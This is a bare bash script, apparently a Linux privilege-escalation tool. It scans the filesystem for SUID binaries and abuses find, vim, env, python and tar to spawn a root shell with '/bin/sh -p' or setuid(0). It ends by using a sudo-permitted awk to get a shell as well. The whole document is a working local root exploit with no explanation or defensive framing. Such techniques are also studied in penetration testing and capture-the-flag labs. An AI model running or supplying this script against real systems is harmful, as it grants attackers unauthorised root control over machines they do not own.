#!/bin/bash
for b in $(find / -perm -4000 -type f 2>>/tmp/e); do
  case ${b##*/} in
    find) "$b" . -exec /bin/sh -p \; -quit ;;
    vim) "$b" -c ':py3 import os; os.execl("/bin/sh", "sh", "-pc", "reset; exec sh -p")' ;;
    env) "$b" /bin/sh -p ;;
    python*) "$b" -c 'import os; os.setuid(0); os.execl("/bin/sh", "sh", "-p")' ;;
    tar) "$b" -cf /tmp/n /tmp/e --checkpoint=1 --checkpoint-action=exec=/bin/sh ;;
  esac
done
sudo -l | grep -q awk && sudo awk 'BEGIN {system("/bin/sh")}'
